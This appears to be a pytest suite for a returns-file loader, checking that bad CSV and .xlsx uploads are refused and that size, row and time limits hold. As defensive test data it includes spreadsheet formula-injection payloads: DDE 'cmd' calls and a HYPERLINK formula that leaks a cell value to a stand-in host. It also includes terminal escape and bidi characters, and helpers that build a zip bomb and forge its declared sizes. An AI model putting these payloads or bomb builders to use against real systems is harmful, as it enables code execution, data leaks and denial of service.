"""Bounded, safe input for returns files (issue 13, items 5, 7 and 8): each bad-file kind gives
one clear line naming the file (and the row and column where there is one) and loads nothing;
the limits (``orchestration/sources/returns/limits.py``) are checked before and while the file is
read; a good file still loads afterwards. Limits are lowered here to keep the tests fast; the
real 50 MB CSV and gigabyte .xlsx are in ``orchestration/bench/chaos/returns.py``."""

from __future__ import annotations

import csv
import dataclasses
import os
import re
import time
import zipfile
from pathlib import Path

import duckdb
import pytest
from openpyxl import Workbook

from orchestration.sources.returns import limits as returns_limits
from orchestration.sources.returns import load as returns
from orchestration.sources.returns.read import (
    ALL_COLUMNS,
    COUNT_COLUMNS,
    ReturnsFileError,
    read_returns_file,
)
from orchestration.sources.returns.templates import bundled_data_folder, template_folder
from orchestration.sources.returns.validate import validate_rows
from tests.orchestration.sources.returns.test_files import TODAY

OFFICIAL_CSV = bundled_data_folder() / "official_counts.csv"
STAGING_SQL = Path(__file__).parents[2] / "dbt_project/models/staging/returns"


@pytest.fixture
def warehouse(tmp_path) -> Path:
    """An empty warehouse: the raw load needs no dbt build, mart or macro (dbt resolves names)."""
    path = tmp_path / "warehouse" / "pfd.duckdb"
    path.parent.mkdir()
    duckdb.connect(str(path)).close()
    return path


def official_rows() -> list[dict]:
    with OFFICIAL_CSV.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def write_csv(path: Path, rows: list[dict], extra: dict[int, list[str]] | None = None) -> Path:
    """The rows in the template's columns; ``extra`` adds cells after the last column of a row
    (keyed by its index in ``rows``)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(ALL_COLUMNS)
        for index, row in enumerate(rows):
            writer.writerow([row.get(c) or "" for c in ALL_COLUMNS] + (extra or {}).get(index, []))
    return path


def write_xlsx(path: Path, rows: list[dict], cells: dict[str, object] | None = None) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "returns"
    sheet.append(list(ALL_COLUMNS))
    for row in rows:
        sheet.append([row.get(c) or None for c in ALL_COLUMNS])
    for reference, value in (cells or {}).items():
        sheet[reference] = value
    workbook.save(path)
    return path


def loaded_rows(warehouse: Path) -> list[tuple]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        present = con.execute(
            "SELECT count(*) FROM information_schema.tables"
            " WHERE table_schema = 'raw' AND table_name = 'returns__rows'"
        ).fetchone()[0]
        if not present:
            return []
        return con.execute("SELECT * FROM raw.returns__rows ORDER BY ALL").fetchall()


def with_value(row: int, column: str, value: str):
    def build(rows: list[dict]) -> list[dict]:
        rows[row - 2][column] = value
        return rows

    return build


def lower(monkeypatch, **limits) -> None:
    monkeypatch.setattr(
        returns_limits, "LIMITS", dataclasses.replace(returns_limits.LIMITS, **limits)
    )


def assert_refused_and_next_load_works(
    path: Path, warehouse: Path, tmp_path: Path, *where, monkeypatch=None
):
    """One problem line naming ``where`` (file, row, column as they print), nothing loaded, and
    the real returns file loads right after (with the limits ``monkeypatch`` lowered restored)."""
    with pytest.raises(ReturnsFileError) as caught:
        returns.load_returns_file(path, warehouse, tmp_path / "data", today=TODAY)
    lines = [str(p) for p in caught.value.problems]
    assert len(lines) == 1, lines
    assert lines[0].startswith(", ".join(where) + ": "), lines
    assert "\n" not in lines[0] and "\x00" not in lines[0] and "Traceback" not in lines[0]
    assert loaded_rows(warehouse) == []
    if monkeypatch is not None:
        monkeypatch.undo()
    result = returns.load_returns_file(OFFICIAL_CSV, warehouse, tmp_path / "data", today=TODAY)
    assert (result.status, result.rows_loaded) == ("loaded", 16)
    return lines[0]


CELL_CASES = [
    # (case, row, column, value, words in the message)
    ("absurd count", 3, "reports_received", "3,000,000,000", "not a plausible count"),
    ("absurd count, no commas", 3, "reports_received", "3000000000", "limit is 10,000"),
    ("count in other digits", 3, "reports_received", "\u0663", "not a whole number"),
    ("absurd split count", 4, "reports_as_addressee", "99999999999999999999", "plausible"),
    ("negative number is a number", 2, "reports_received", "-5", "is negative"),
    ("hyperlink formula", 5, "note", '=HYPERLINK("http://x.test/?"&A2,"see")', "formula"),
    ("dde formula", 6, "source_reference", "=cmd|' /C calc'!A0", "formula"),
    ("plus formula", 7, "counting_basis", "+SUM(A1:A9)", "starts with '+'"),
    ("at formula", 8, "note", "@SUM(1+1)*cmd|'/C calc'!A0", "starts with '@'"),
    ("minus formula", 9, "note", "-2+3+cmd|' /C calc'!A0", "starts with '-'"),
    ("nul byte", 10, "note", "before\x00after", "control character \\x00"),
    ("escape sequence", 11, "organisation_name", "Care Quality\x1b[31m Commission", "\\x1b"),
    ("bidi override", 12, "note", "note \u202ethgir ot tfel", "\\u202e"),
]


@pytest.mark.parametrize(
    ("case", "row", "column", "value", "words"), CELL_CASES, ids=[c[0] for c in CELL_CASES]
)
def test_bad_cell_is_refused_naming_file_row_and_column(
    warehouse, tmp_path, case, row, column, value, words
):
    path = write_csv(tmp_path / "answer.csv", with_value(row, column, value)(official_rows()))
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.csv", f"row {row}", f"column {column}"
    )
    assert words in line


def test_formula_cell_in_an_xlsx_is_refused_not_read_as_its_cached_value(warehouse, tmp_path):
    path = write_xlsx(tmp_path / "answer.xlsx", official_rows(), {"K4": "=1+1"})
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.xlsx", "row 4", "column note"
    )
    assert "formula" in line


def test_numbers_and_line_breaks_in_cells_are_accepted(warehouse, tmp_path):
    rows = official_rows()
    rows[0]["note"] = "first line\nsecond line\tand a tab"
    rows[1]["reports_received"] = "1,200"
    path = write_xlsx(tmp_path / "answer.xlsx", rows, {"G4": 7, "G5": 7.0})
    result = returns.load_returns_file(path, warehouse, tmp_path / "data", today=TODAY)
    assert result.rows_loaded == 16
    with duckdb.connect(str(warehouse), read_only=True) as con:
        got = con.execute(
            "SELECT row_number, note, reports_received FROM raw.returns__rows"
            " WHERE row_number <= 5 ORDER BY row_number"
        ).fetchall()
    assert got[0][1] == "first line second line and a tab"
    assert [g[2] for g in got] == ["1", "1,200", "7", "7"]


def test_value_beyond_the_header_columns_is_refused_not_dropped(warehouse, tmp_path):
    path = write_csv(tmp_path / "answer.csv", official_rows(), extra={3: ["", "stray value"]})
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.csv", "row 5", "column R (column 18)"
    )
    assert "'stray value' is in a column with no name" in line


def test_white_space_beyond_the_header_is_an_empty_cell(tmp_path):
    path = write_csv(tmp_path / "answer.csv", official_rows(), extra={0: ["  "], 5: ["", " "]})
    rows, problems = read_returns_file(path)
    assert (len(rows), problems) == (16, [])


def test_value_under_a_blank_header_cell_is_refused(tmp_path):
    path = tmp_path / "answer.csv"
    rows = official_rows()
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([*ALL_COLUMNS[:3], "", *ALL_COLUMNS[3:]])
        for row in rows:
            values = [row.get(c) or "" for c in ALL_COLUMNS]
            writer.writerow([*values[:3], "hidden" if row is rows[2] else "", *values[3:]])
    _, problems = read_returns_file(path)
    assert [str(p) for p in problems] == [
        "answer.csv, row 4, column D (column 4): 'hidden' is in a column with no name in the"
        " header row; every value must be under one of the template's columns"
    ]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("answer\n.csv", "answer\\n.csv"),
        ("answer\r.csv", "answer\\r.csv"),
        ("an\x1b[2Jswer.csv", "an\\x1b[2Jswer.csv"),
        ("=HYPERLINK(1).csv", "=HYPERLINK(1).csv"),
    ],
)
def test_bad_file_name_is_refused_in_one_printable_line(warehouse, tmp_path, name, shown):
    path = write_csv(tmp_path / name, official_rows())
    rows, problems = read_returns_file(path)
    assert rows == []
    assert len(problems) == 1 and str(problems[0]).startswith(f"{shown}: the file name")
    assert "\n" not in str(problems[0]) and "\x1b" not in str(problems[0])
    with pytest.raises(ReturnsFileError):
        returns.load_returns_file(path, warehouse, tmp_path / "data", today=TODAY)
    assert loaded_rows(warehouse) == []


def test_file_name_that_is_not_utf8_is_refused_and_shown_escaped(tmp_path):
    path = write_csv(tmp_path / os.fsdecode(b"answer\xff.csv"), official_rows())
    rows, problems = read_returns_file(path)
    assert rows == []
    assert [str(p) for p in problems] == [
        "answer\\udcff.csv: the file name is not UTF-8 text; rename the file"
    ]


def test_nul_byte_in_a_file_name_is_refused_without_touching_the_disk(tmp_path):
    rows, problems = read_returns_file(tmp_path / "answer\x00.csv")
    assert rows == []
    assert [str(p) for p in problems] == [
        "answer\\x00.csv: the file name holds the control character \\x00 (NUL, newline or"
        " another control character); rename the file"
    ]


def test_oversized_csv_is_refused_before_it_is_read(warehouse, tmp_path, monkeypatch):
    lower(monkeypatch, max_file_bytes=1000)
    path = write_csv(tmp_path / "answer.csv", official_rows())
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.csv", monkeypatch=monkeypatch
    )
    assert re.search(r"the file is [\d,]+ bytes; the limit is 1,000 bytes", line)


@pytest.mark.parametrize(
    ("limit", "where", "words"),
    [
        ({"max_rows": 10}, ("row 11",), "more than 10 rows"),
        ({"max_columns": 20}, ("row 5", "column Y"), "a value in column 25; the limit is 20"),
        ({"max_cell_chars": 100}, ("row 2", "column note"), "the limit is 100"),
    ],
)
def test_rows_columns_and_cells_over_the_limit_stop_the_read(
    warehouse, tmp_path, monkeypatch, limit, where, words
):
    rows = official_rows()
    rows[0]["note"] = "x" * 200
    path = write_csv(tmp_path / "answer.csv", rows, extra={3: [""] * 8 + ["far"]})
    lower(monkeypatch, **limit)
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.csv", *where, monkeypatch=monkeypatch
    )
    assert words in line


def bomb(path: Path, unzipped: int) -> Path:
    """A real .xlsx whose cell K2 is ``unzipped`` bytes of one letter (a few KB zipped; written
    into the sheet's XML, since openpyxl itself cuts a cell at Excel's 32,767 characters)."""
    staged = write_xlsx(path.with_name("staged.xlsx"), official_rows())
    with zipfile.ZipFile(staged) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                cell = re.search(rb'<c r="K2"[^>]*><is><t>', data).end()
                data = data[:cell] + b"A" * unzipped + data[cell:]
            out.writestr(member.filename, data)
    staged.unlink()
    return path


def test_small_xlsx_zip_bomb_is_refused_before_openpyxl_opens_it(warehouse, tmp_path, monkeypatch):
    path = bomb(tmp_path / "answer.xlsx", 4_000_000)
    assert path.stat().st_size < 100_000
    lower(monkeypatch, max_xlsx_unzipped_bytes=1_000_000)
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("opened"))
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.xlsx", monkeypatch=monkeypatch
    )
    assert "unzips to" in line and "the limit is 1,000,000 bytes" in line


def test_xlsx_with_more_cells_than_the_limits_allow_is_refused_before_openpyxl(
    warehouse, tmp_path, monkeypatch
):
    path = write_xlsx(tmp_path / "answer.xlsx", official_rows())
    lower(monkeypatch, max_rows=5)
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("opened"))
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.xlsx", monkeypatch=monkeypatch
    )
    assert "the .xlsx holds more than 160 cells (the limit: 5 rows of 32 columns)" in line


def lie_about_sizes(path: Path, size: int = 100) -> None:
    """Rewrite every zip member's declared unzipped size (local and central headers) as
    ``size``: a bomb that claims to be small."""
    data = bytearray(path.read_bytes())
    for offset in (m.start() for m in re.finditer(b"PK\x03\x04", data)):
        data[offset + 22 : offset + 26] = size.to_bytes(4, "little")
    for offset in (m.start() for m in re.finditer(b"PK\x01\x02", data)):
        data[offset + 24 : offset + 28] = size.to_bytes(4, "little")
    path.write_bytes(bytes(data))


def test_xlsx_bomb_that_lies_about_its_size_is_refused(warehouse, tmp_path, monkeypatch):
    path = bomb(tmp_path / "answer.xlsx", 4_000_000)
    lie_about_sizes(path)
    with zipfile.ZipFile(path) as archive:
        assert sum(m.file_size for m in archive.infolist()) < 10_000
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("opened"))
    line = assert_refused_and_next_load_works(
        path, warehouse, tmp_path, "answer.xlsx", monkeypatch=monkeypatch
    )
    assert "not a readable .xlsx workbook (a broken zip archive" in line


def test_xlsx_that_declares_the_whole_sheet_is_read_by_its_cells(tmp_path):
    path = write_xlsx(tmp_path / "answer.xlsx", official_rows())
    staged = tmp_path / "staged.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(staged, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                whole_sheet = b'<dimension ref="A1:XFD1048576"/>'
                data = re.sub(rb'<dimension ref="[^"]+"/>', whole_sheet, data)
            target.writestr(member, data)
    started = time.monotonic()
    rows, problems = read_returns_file(staged)
    assert (len(rows), problems) == (16, [])
    assert time.monotonic() - started < 5


def slow_clock(monkeypatch) -> None:
    """A clock that moves one second each time the time limit is checked (once per row read,
    once per 64 KB unzipped): a slow file, without waiting for it."""
    ticks = iter(range(1_000_000))
    monkeypatch.setattr(returns_limits.Deadline, "clock", staticmethod(lambda: next(ticks)))


def test_slow_file_hits_the_time_limit(warehouse, tmp_path, monkeypatch):
    path = write_csv(tmp_path / "answer.csv", official_rows())
    with monkeypatch.context() as slow:
        slow_clock(slow)
        lower(slow, max_seconds=5)
        with pytest.raises(ReturnsFileError) as caught:
            returns.load_returns_file(path, warehouse, tmp_path / "data", today=TODAY)
    assert [str(p) for p in caught.value.problems] == [
        "answer.csv, row 6: reading took longer than the 5 s limit (stopped at row 6); split"
        " the file"
    ]
    assert loaded_rows(warehouse) == []
    assert returns.load_returns_file(OFFICIAL_CSV, warehouse, tmp_path, today=TODAY).rows_loaded


def test_xlsx_time_limit_applies_while_unzipping(tmp_path, monkeypatch):
    path = bomb(tmp_path / "answer.xlsx", 4_000_000)
    slow_clock(monkeypatch)
    lower(monkeypatch, max_seconds=5)
    _, problems = read_returns_file(path)
    assert [str(p) for p in problems] == [
        "answer.xlsx: reading took longer than the 5 s limit; split the file"
    ]


def test_many_problems_are_listed_up_to_the_limit_and_counted(tmp_path, monkeypatch):
    lower(monkeypatch, max_problems=5)
    rows = official_rows()
    for row in rows:
        row["note"] = "=1"
    _, problems = read_returns_file(write_csv(tmp_path / "answer.csv", rows))
    assert len(problems) == 6
    assert str(problems[-1]) == "answer.csv: and 11 more problems (the first 5 shown)"


def test_every_count_that_passes_validation_fits_the_dbt_column(tmp_path):
    """The counts land in INTEGER columns of stg_returns__returns (cast after removing commas);
    the largest count validation accepts casts there, the next one up is refused."""
    sql = (STAGING_SQL / "stg_returns__returns.sql").read_text(encoding="utf-8")
    for column in COUNT_COLUMNS:
        assert re.search(rf"cast\(replace\(return_rows\.{column}, ',', ''\) as integer\)", sql)
    limit = returns_limits.LIMITS.max_count
    largest = f"{limit:,}"
    rows, _ = read_returns_file(OFFICIAL_CSV)
    rows[0].values["reports_received"] = largest
    assert validate_rows("answer.csv", rows, TODAY) == []
    with duckdb.connect() as con:
        cast = con.execute("SELECT cast(replace(?, ',', '') AS INTEGER)", [largest]).fetchone()
    assert cast == (limit,)
    rows[0].values["reports_received"] = f"{limit + 1:,}"
    assert [p.column for p in validate_rows("answer.csv", rows, TODAY)] == ["reports_received"]


def test_the_documented_limits_are_the_limits_in_force():
    """templates/README.md ("Limits") states each value of ``limits.LIMITS``."""
    readme = (template_folder() / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Limits", 1)[1].split("\n## ", 1)[0]
    limits = returns_limits.LIMITS
    stated = [
        f"| file size | {limits.max_file_bytes // returns_limits.MIB} MiB"
        f" ({limits.max_file_bytes:,} bytes)",
        f"| rows | {limits.max_rows:,} spreadsheet rows",
        f"| columns | {limits.max_columns}:",
        f"| cells | {limits.max_cells:,} (rows × columns)",
        f"| one cell | {limits.max_cell_chars:,} characters",
        f"| one CSV line | {limits.max_line_chars:,} characters",
        f"| .xlsx unzipped | {limits.max_xlsx_unzipped_bytes // returns_limits.MIB} MiB",
        f"at most {limits.max_xlsx_members:,} members",
        f"| time | {limits.max_seconds:g} s",
        f"| a count | a whole number 0 to {limits.max_count:,}",
        f"| problems listed | {limits.max_problems} per file",
    ]
    assert [s for s in stated if s not in section] == []
